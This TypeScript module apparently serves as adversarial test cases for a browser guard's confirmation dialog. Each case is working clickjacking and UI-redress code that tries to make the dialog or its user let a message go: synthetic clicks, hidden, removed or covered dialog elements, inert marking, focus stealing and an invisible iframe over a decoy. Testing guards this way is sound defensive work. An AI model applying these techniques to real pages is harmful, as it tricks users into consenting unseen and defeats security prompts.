/** Tricks the dialog, or the person who sees it, into letting the message go. On a fair page the same press sends. */
import type { Kit, Trick } from "../trick";
import { pressAgain, pressFast, pressOnce, restAndPress, tabAgain, tabOnce } from "./dialog-user";

interface Way extends Pick<Trick, "act" | "byHand" | "honest"> {
  readonly act: NonNullable<Trick["act"]>;
}

const CLICKS: Way = {
  byHand:
    "press the switch “as it is” and “Send with placeholders” where they would stand, several times.",
  act: pressAgain,
  honest: pressOnce,
};
const RESTS: Way = {
  byHand:
    "rest the pointer where the switch “as it is” would stand, press; then the same where the button that sends would.",
  act: restAndPress,
  honest: pressOnce,
};
const KEYS: Way = {
  byHand: "press Shift and Tab, Space, Tab and Enter, again and again.",
  act: tabAgain,
  honest: tabOnce,
};
const FAST: Way = {
  byHand:
    "press Escape once, then press as fast as you can where the switch and the button that sends stood.",
  act: pressFast,
  honest: pressOnce,
};

export const DIALOG: readonly Trick[] = [
  {
    name: "dialog-synthetic",
    about: "Sends clicks and keys of its own to every element there is.",
    ...CLICKS,
    act: () => Promise.resolve(),
    mostMs: 5_000,
    async send(kit) {
      ask(kit);
      for (let times = 0; times < (kit.fair ? 0 : 10); times++) {
        await kit.wait(300);
        for (const target of [document, window, ...document.querySelectorAll("*")]) {
          for (const type of ["pointerdown", "mousedown", "mouseup", "click"])
            target.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true }));
          for (const key of ["Enter", " ", "Tab"])
            for (const type of ["keydown", "keypress", "keyup"])
              target.dispatchEvent(new KeyboardEvent(type, { key, bubbles: true, composed: true }));
          if (target instanceof HTMLElement) target.click();
        }
      }
    },
  },
  dialog("removed", "Takes every element that is not its own out of the page.", KEYS, () => {
    const clear = () => strangers().forEach((one) => one.remove());
    new MutationObserver(clear).observe(document, { childList: true, subtree: true });
    setInterval(clear, 20);
  }),
  dialog(
    "transparent",
    "Makes the dialog's element invisible, so that clicks meet it unseen.",
    CLICKS,
    () => {
      each((one) => {
        one.style.setProperty("opacity", "0.01", "important");
        one.style.setProperty("filter", "opacity(0.01)", "important");
      });
    },
  ),
  dialog("clipped", "Clips, masks and moves the dialog's element.", CLICKS, () => {
    each((one) => {
      one.style.setProperty("clip-path", "inset(49%)", "important");
      one.style.setProperty("mask", "linear-gradient(transparent, transparent)", "important");
    });
  }),
  dialog("faded-root", "Makes the whole page invisible, the dialog with it.", CLICKS, () => {
    sheet("html { opacity: 0.01 !important; filter: opacity(0.01) !important }");
  }),
  dialog(
    "zoomed",
    "Zooms the page until nobody can read what stands in it.",
    CLICKS,
    () => void document.documentElement.style.setProperty("zoom", "0.05"),
  ),
  dialog("covered", "Covers the dialog with a layer that lets clicks through.", CLICKS, () => {
    const cover = coverIn(document.body);
    setInterval(() => {
      cover.hidePopover();
      cover.showPopover();
    }, 30);
  }),
  dialog(
    "covered-unheard",
    "The same from a closed shadow root, from which nobody hears anything.",
    CLICKS,
    () => {
      const cover = coverIn(closedRoot());
      setInterval(() => {
        cover.hidePopover();
        cover.showPopover();
      }, 200);
    },
  ),
  dialog(
    "covered-until-pressed",
    "Covers it so until the very moment in which the button is pressed.",
    RESTS,
    () => {
      const cover = coverIn(closedRoot());
      let pressed = false;
      setInterval(() => {
        cover.hidePopover();
        if (!pressed) cover.showPopover();
      }, 200);
      const press = (now: boolean) => () => {
        pressed = now;
        if (now) cover.hidePopover();
      };
      addEventListener("pointerdown", press(true), true);
      addEventListener("click", press(false), true);
    },
  ),
  dialog(
    "covered-by-transition",
    "Shows an old picture of the page above everything, as of a transition between two views.",
    CLICKS,
    () => {
      sheet(`::view-transition { pointer-events: none } ::view-transition-old(root), ::view-transition-group(root) {
        animation: 60s linear stay !important; opacity: 1; mix-blend-mode: normal }
        ::view-transition-new(root) { display: none } @keyframes stay { from { opacity: 1 } to { opacity: 1 } }`);
      document.body.append("Click anywhere to go on");
      const page = document as unknown as { startViewTransition: (change: () => void) => unknown };
      setTimeout(() => void page.startViewTransition(() => undefined), 300);
    },
  ),
  dialog("inert", "Declares everything but its own decoy inert.", KEYS, () => {
    each((one) => {
      one.inert = true;
      one.setAttribute("aria-hidden", "true");
    });
  }),
  dialog(
    "below-modal",
    "Opens a modal dialog of its own in a closed shadow root, again and again.",
    CLICKS,
    () => {
      const modal = document.createElement("dialog");
      modal.textContent = "Click anywhere to go on";
      modal.style.cssText =
        "width:100vw;height:100vh;max-width:none;max-height:none;pointer-events:none";
      closedRoot().append(modal);
      setInterval(() => {
        if (modal.open) modal.close();
        modal.showModal();
      }, 60);
    },
  ),
  dialog(
    "focus-stolen",
    "Steals the focus all the time, so that keys go where nobody expects.",
    KEYS,
    () => {
      const field = document.createElement("input");
      document.body.append(field);
      setInterval(() => {
        if (Math.random() < 0.5) field.focus();
        else each((one) => one.focus());
      }, 15);
    },
  ),
  dialog("scaled", "Scales the dialog until nobody can read it.", CLICKS, () => {
    each((one) => {
      one.style.setProperty("scale", "0.02", "important");
      one.style.setProperty("font-size", "1px", "important");
    });
  }),
  {
    ...dialog(
      "under-the-pointer",
      "Has somebody press fast, as in a game, and sends at each press.",
      FAST,
      () => undefined,
    ),
    async send(kit) {
      ask(kit);
      if (!kit.fair) addEventListener("pointerdown", () => ask(kit), true);
      await kit.wait(20_000);
    },
  },
  {
    ...dialog(
      "in-faint-frame",
      "Shows the chat in a frame that nobody can see, above a decoy.",
      CLICKS,
      () => undefined,
    ),
    async send(kit) {
      if (window !== top || kit.fair) ask(kit);
      else {
        document.body.append("Click anywhere to go on");
        await kit.frame((frame) => {
          frame.style.cssText =
            "position:fixed;inset:0;width:100vw;height:100vh;border:0;opacity:0.01";
          frame.src = location.href;
        });
      }
      await kit.wait(20_000);
    },
  },
];

function dialog(name: string, about: string, way: Way, disturb: () => void): Trick {
  return {
    name: `dialog-${name}`,
    about,
    ...way,
    mostMs: 600,
    send(kit) {
      if (!kit.fair) disturb();
      ask(kit);
      return kit.wait(20_000);
    },
  };
}

/** Makes the guard show its dialog. */
function ask({ prompt, post }: Kit): void {
  void fetch(prompt, post()).catch(() => undefined);
}

/** Elements that the page did not make. */
function strangers(): HTMLElement[] {
  return [...document.documentElement.children].filter(
    (one): one is HTMLElement => one !== document.head && one !== document.body,
  );
}

function each(change: (element: HTMLElement) => void): void {
  setInterval(() => strangers().forEach(change), 20);
}

function sheet(css: string): void {
  const style = document.createElement("style");
  style.textContent = css;
  document.head.append(style);
}

function closedRoot(): ShadowRoot {
  const home = document.createElement("section");
  document.body.append(home);
  return home.attachShadow({ mode: "closed" });
}

/** Above everything, and clicks go through it. */
function coverIn(home: Node): HTMLElement {
  const cover = document.createElement("div");
  cover.popover = "manual";
  cover.style.cssText =
    "position:fixed;inset:0;width:100vw;height:100vh;background:white;pointer-events:none;border:0";
  cover.textContent = "Click anywhere to go on";
  home.appendChild(cover);
  return cover;
}
